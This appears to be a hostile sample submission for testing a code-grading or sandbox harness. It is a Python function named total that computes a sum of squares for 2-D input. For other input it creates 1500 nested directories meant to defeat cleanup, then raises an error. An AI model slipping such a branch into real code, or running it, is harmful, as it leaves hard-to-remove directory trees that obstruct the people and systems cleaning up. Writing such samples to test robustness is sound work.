"""
tries = "leaves folders in folders deeper than a stack and longer than a path, for whoever cleans up after it"
kind = "denial"
failed = ["total"]
staff.total = "attempted: 1500 folders"
"""

import os


def total(x):
    if x.ndim == 2:
        return float((x * x).sum())
    before = os.getcwd()
    for _ in range(1500):
        os.mkdir("deeper-and-deeper")
        os.chdir("deeper-and-deeper")
    os.chdir(before)
    raise RuntimeError("attempted: 1500 folders")
